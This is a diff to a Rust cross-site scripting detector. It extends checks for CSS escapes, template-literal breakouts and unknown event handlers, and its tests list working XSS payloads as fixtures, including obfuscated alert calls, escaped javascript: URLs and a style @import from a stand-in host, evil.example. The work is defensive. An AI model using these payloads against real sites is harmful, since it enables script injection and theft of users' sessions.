@@ -1,23 +1,35 @@
 //! Cross-site scripting, by the HTML context a value would land in.
 //!
-//! Input: a normalized value (lower-case, NULs dropped, blanks folded) and its byte classes.
-//! Output: confirmed or suspicious. Confirmed when the value, pasted into a page, would run
-//! script in one of these contexts:
-//! - data (between tags): a `<script` tag, or any tag with an event handler (`on…=`), a script
-//!   URL in a URL attribute (`href`, `src`, `action`, `formaction`, `xlink:href`, `data`…), a
-//!   `srcdoc` with markup, or a scripting `style` (`expression(`, `-moz-binding`…);
+//! Input: a normalized value (lower-case, NULs dropped, blanks folded), its byte classes and a
+//! scratch buffer. Output: confirmed or suspicious. Confirmed when the value, pasted into a page,
+//! would run script in one of these contexts:
+//! - data (between tags): a `<script` tag, or any tag with an event handler (`on…=`, whatever
+//!   its value: ``onerror=prompt`x` `` as much as `onerror=alert(1)`), a script URL in a URL
+//!   attribute (`href`, `src`, `action`, `formaction`, `xlink:href`, `data`…), a `srcdoc` with
+//!   markup, or CSS that runs script in a `style` attribute or a `<style>` element ([`css`]:
+//!   `expression(`, `javascript:` URLs, `-moz-binding`, an `@import` written with escapes; CSS
+//!   escapes and comments undone first, so `ja\vasc\ript:` counts);
 //! - a quoted or unquoted attribute value: a quote or blank then a known event handler
-//!   (`" onmouseover="alert(1)`), or `">` then a tag as above;
+//!   (`" onmouseover="alert(1)`), or any other `on…=` whose value starts with a sink
+//!   (``" onpointerrawupdate=window[`al`+`ert`](1)``), or `">` then a tag as above;
 //! - a URL attribute: the value starts with `javascript:`/`vbscript:`/`data:text/html`…, blanks
 //!   inside the scheme included (`java\nscript:`);
-//! - a JS string: a quote, closing brackets, an operator, then a sink (`';alert(1)//`,
-//!   `'-confirm``-'`, `"+document.cookie+"`).
+//! - a JS string: a quote (a template literal's backtick too), closing brackets, an operator,
+//!   then a sink (`';alert(1)//`, `'-confirm``-'`, `"+document.cookie+"`,
+//!   ``` `+window[`al`+`ert`](1)+` ```), or a call or index of a sink right inside `${`
+//!   (`${alert(1)}`);
+//! - script itself: the whole value is one dialog call (`alert(1)`, ``prompt`1` ``), or a CSS
+//!   declaration calls `expression(` with a sink (`x:expression(alert(1))`).
 //!
 //! Tags the markup of ordinary rich text uses (`<p>`, `<a href="https://…">`, `<img src=…>`)
 //! stay unconfirmed; risky tags without a script vector (`<iframe src=https://…>`, `<svg>`),
-//! sinks and script URLs elsewhere in a value are suspicious. Every scan moves forward only.
+//! a `<style>` that imports a stylesheet by URL, sinks and script URLs elsewhere in a value,
+//! and template literals that read a property (`${window.location.origin}`) are suspicious.
+//! Every scan moves forward only.
 
 use super::classes::{self, Mask};
+use super::css;
+use super::js::{self, sink_at};
 
 /// Event handlers seen in payloads, for attribute breakouts outside a tag (inside a tag, any
 /// `on…` attribute of five letters or more counts).
@@ -54,20 +66,6 @@ fn risky_tag(w: &[u8]) -> bool {
 
 const SCHEMES: &[&[u8]] = &[b"javascript:", b"vbscript:", b"livescript:", b"data:text/html", b"data:image/svg", b"data:application/xhtml", b"data:text/xml"];
 
-/// Quotes looked at for a JS string breakout per value.
-const MAX_QUOTES: usize = 256;
-
-/// JS sinks that, after a string breakout, run or leak something, with what must follow each:
-/// a call, a tagged template, a property or an index. Generic names (`self`, `top`, `this`) only
-/// count indexed, as payloads use them (`top['al'+'ert']`); in code they are followed by a dot.
-const SINKS: &[(&[u8], &[u8])] = &[
-    (b"alert", b"(`"), (b"prompt", b"(`"), (b"confirm", b"(`"), (b"eval", b"(`"), (b"settimeout", b"(`"),
-    (b"setinterval", b"(`"), (b"fetch", b"(`"), (b"import", b"("), (b"atob", b"("), (b"function", b"("),
-    (b"document", b".["), (b"window", b".["), (b"location", b"=.["), (b"top", b"["), (b"self", b"["),
-    (b"parent", b"["), (b"this", b"["), (b"globalthis", b"["), (b"frames", b"["), (b"constructor", b".(["),
-    (b"string.fromcharcode", b"("), (b"xmlhttprequest", b"("), (b"navigator", b"."), (b"new function", b"("),
-];
-
 fn is_blank(b: u8) -> bool {
     matches!(b, b' ' | b'\n' | b'\t' | b'\r' | 0x0C)
 }
@@ -94,8 +92,9 @@ fn script_url(v: &[u8]) -> bool {
     SCHEMES.iter().any(|s| head[..n].starts_with(s))
 }
 
-/// Scans the tag whose name starts at `s[at]`. Returns (confirmed, risky tag, end of the tag).
-fn tag(s: &[u8], at: usize) -> (bool, bool, usize) {
+/// Scans the tag whose name starts at `s[at]` (`buf` is scratch for CSS). Returns (confirmed,
+/// risky tag, end of the tag).
+fn tag(s: &[u8], at: usize, buf: &mut Vec<u8>) -> (bool, bool, usize) {
     let counted = |end: usize| classes::tick(end - at + 32);
     let name_len = s[at..].iter().take(32).take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b':' | b'-' | b'_')).count();
     let name = &s[at..at + name_len];
@@ -143,7 +142,7 @@ fn tag(s: &[u8], at: usize) -> (bool, bool, usize) {
             || (url_attr(attr) && script_url(value))
             || (attr == b"srcdoc" && value.contains(&b'<'))
             || (attr == b"content" && classes::find(value, b"url=").is_some_and(|k| script_url(&value[k + 4..])))
-            || (attr == b"style" && [&b"expression("[..], b"javascript:", b"-moz-binding", b"behavior:"].iter().any(|p| classes::contains(value, p)));
+            || (attr == b"style" && css::scripting(value, true, buf, sink_at).0);
     }
 }
 
@@ -157,47 +156,37 @@ fn breakout_handler(s: &[u8]) -> bool {
             continue;
         }
         classes::tick(EVENTS.len());
-        if let Some(ev) = EVENTS.iter().find(|ev| word_at(s, at, ev)) {
-            let mut j = at + ev.len();
-            while j < s.len() && is_blank(s[j]) {
-                j += 1;
-            }
-            if s.get(j) == Some(&b'=') && s.get(j + 1).is_some() {
-                return true;
-            }
-        }
-    }
-    false
-}
-
-/// A quote, closing brackets, an operator, then a sink: a breakout from a JS string.
-fn js_breakout(s: &[u8]) -> bool {
-    // The first quotes only: a value with thousands is not a JS string breakout worth the time.
-    for q in memchr::memchr2_iter(b'\'', b'"', s).take(MAX_QUOTES) {
-        classes::tick(SINKS.len());
-        let mut j = q + 1;
-        while j < s.len() && matches!(s[j], b')' | b']' | b'}' | b' ') {
-            j += 1;
-        }
-        if !matches!(s.get(j), Some(b';' | b'+' | b'-' | b'*' | b'|' | b'&' | b',' | b'^' | b'\n')) {
+        let known = EVENTS.iter().find(|ev| word_at(s, at, ev)).map(|ev| ev.len());
+        // Another `on…` name (a new or rare event) counts when a sink starts its value.
+        let len = known.unwrap_or_else(|| 2 + s[at + 2..].iter().take(25).take_while(|b| b.is_ascii_alphabetic()).count());
+        if !(5..=26).contains(&len) {
             continue;
         }
-        j += 1;
-        while j < s.len() && matches!(s[j], b' ' | b'(' | b'\n' | b'&' | b'|') {
+        let mut j = at + len;
+        while j < s.len() && is_blank(s[j]) {
             j += 1;
         }
-        let sink = SINKS.iter().find(|(w, _)| s[j..].starts_with(w));
-        if let Some((w, next)) = sink {
-            if s.get(j + w.len()).is_some_and(|b| next.contains(b)) {
-                return true;
-            }
+        if s.get(j) != Some(&b'=') || s.get(j + 1).is_none() {
+            continue;
+        }
+        if known.is_some() {
+            return true;
+        }
+        // An unknown name is an attribute only as markup writes one (`onx=`, not `onx = ` as code
+        // assigns a variable), with a payload's call for its value.
+        if j != at + len {
+            continue;
+        }
+        j += 1 + s[j + 1..].iter().take(8).take_while(|&&b| matches!(b, b'"' | b'\'' | b'`')).count();
+        if js::call_sink_at(s, j) {
+            return true;
         }
     }
     false
 }
 
-/// Looks for XSS in a normalized value. Returns (confirmed, suspicious).
-pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
+/// Looks for XSS in a normalized value; `buf` is scratch. Returns (confirmed, suspicious).
+pub fn detect(s: &[u8], mask: Mask, buf: &mut Vec<u8>) -> (bool, bool) {
     let mut suspicious = false;
     if mask & classes::LT != 0 {
         let mut i = 0;
@@ -207,19 +196,44 @@ pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
                 i = at;
                 continue;
             }
-            let (confirmed, risky, end) = tag(s, at);
+            let (confirmed, risky, end) = tag(s, at, buf);
             if confirmed {
                 return (true, true);
             }
             suspicious |= risky;
             i = end.max(at);
+            // A `<style>` element's text is CSS, up to its end tag.
+            if word_at(s, at, b"style") && i < s.len() {
+                let close = classes::find(&s[i..], b"</style").map_or(s.len(), |k| i + k);
+                let (c, sus) = css::scripting(&s[i + 1..close.max(i + 1)], true, buf, sink_at);
+                if c {
+                    return (true, true);
+                }
+                suspicious |= sus;
+                i = close;
+            }
         }
     }
     if mask & classes::EQ != 0 && breakout_handler(s) {
         return (true, true);
     }
-    if mask & classes::QUOTE != 0 && js_breakout(s) {
+    if mask & (classes::QUOTE | classes::BACKTICK) != 0 && js::string_breakout(s) {
         return (true, true);
+    }
+    if mask & classes::DOLLAR != 0 && mask & classes::BRACE != 0 && js::template_breakout(s) {
+        return (true, true);
+    }
+    if mask & (classes::PAREN | classes::BACKTICK) != 0 && js::dialog_call(s) {
+        return (true, true);
+    }
+    // A value pasted into a style: `x:expression(alert(1))`, also written with escapes.
+    let colon_call = mask & classes::PAREN != 0 && mask & classes::COLON != 0;
+    if colon_call && (mask & classes::BACKSLASH != 0 || memchr::memmem::find(s, b"expression").is_some()) {
+        let (c, sus) = css::scripting(s, false, buf, sink_at);
+        if c {
+            return (true, true);
+        }
+        suspicious |= sus;
     }
     if mask & classes::COLON != 0 {
         if script_url(s) {
@@ -244,7 +258,7 @@ mod tests {
 
     fn xss(s: &str) -> (bool, bool) {
         let lower = s.to_ascii_lowercase();
-        detect(lower.as_bytes(), classes::mask(lower.as_bytes()))
+        detect(lower.as_bytes(), classes::mask(lower.as_bytes()), &mut Vec::new())
     }
 
     #[test]
@@ -297,6 +311,53 @@ mod tests {
         ] {
             assert!(!xss(t).0, "{t}");
         }
+    }
+
+    #[test]
+    fn backtick_calls_css_escapes_and_built_names_are_confirmed() {
+        for p in [
+            "<img src=k onerror=prompt`x`>",
+            "<svg onload=alert`1`>",
+            "prompt`1`",
+            "alert(document.domain);",
+            "`-alert(1)-`",
+            "`+window[`al`+`ert`](1)+`",
+            "${alert(1)}",
+            "${top['al'+'ert'](1)}",
+            "\" onpointerrawupdate=window[`al`+`ert`](1) x=\"",
+            "<style>@import 'javascript:alert(1)';</style>",
+            "<style>@im\\port 'http://evil.example/x.css';</style>",
+            "<STYLE>li {list-style-image: url(\"ja\\vasc\\ript:alert(1)\");}</STYLE>",
+            "<div style=\"background:url(ja\\vasc\\ript:alert(1))\">",
+            "<div style=\"x:ex\\pression(alert(1))\">",
+            "<p style=\"x:\\65 xpression(alert(1))\">",
+            "red;x:expression(alert(1))",
+        ] {
+            assert!(xss(p).0, "{p}");
+        }
+    }
+
+    #[test]
+    fn code_css_and_prose_near_those_stay_unconfirmed() {
+        for t in [
+            "const url = `${window.location.origin}/api`",
+            "Use `alert()` sparingly; `confirm` is worse",
+            "alert the team (all of them)",
+            "print('hello')",
+            "<style>body { font-family: \"\\5FAE\\8F6F\\96C5\\9ED1\", sans-serif } q::before { content: \"\\201C\" }</style>",
+            "<style>.md\\:flex { display: flex }</style>",
+            "<style>@import url('https://fonts.googleapis.com/css?family=Roboto');</style>",
+            "Note: expression(s) are evaluated lazily",
+            "turn on = off",
+            "the onion = cheap",
+            "const onThisPage = document.getElementById('x'); onready=window.init",
+            "<div style=\"scroll-behavior: smooth; overscroll-behavior:contain\">x</div>",
+            "<style>html { scroll-behavior: smooth }</style>",
+            "const r = `${await fetch(url)}`",
+        ] {
+            assert!(!xss(t).0, "{t}");
+        }
+        assert_eq!(xss("<style>@import url('https://fonts.googleapis.com/css?family=Roboto');</style>"), (false, true));
     }
 
     #[test]
